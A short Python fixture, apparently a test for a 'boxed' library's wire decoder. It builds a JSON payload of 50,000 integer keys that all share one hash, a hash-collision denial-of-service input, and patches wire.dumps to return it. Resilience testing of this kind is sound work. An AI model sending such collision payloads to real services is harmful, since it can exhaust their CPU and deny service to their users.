"""A dictionary whose keys all have the same hash, so that each is compared with all before it."""
# ruff: noqa

# %% own
import json

from boxed import wire

M = 2**61 - 1
evil = json.dumps({"d": [[i * M, 0] for i in range(1, 50001)]}, separators=(",", ":")).encode()
wire.dumps = lambda value: evil
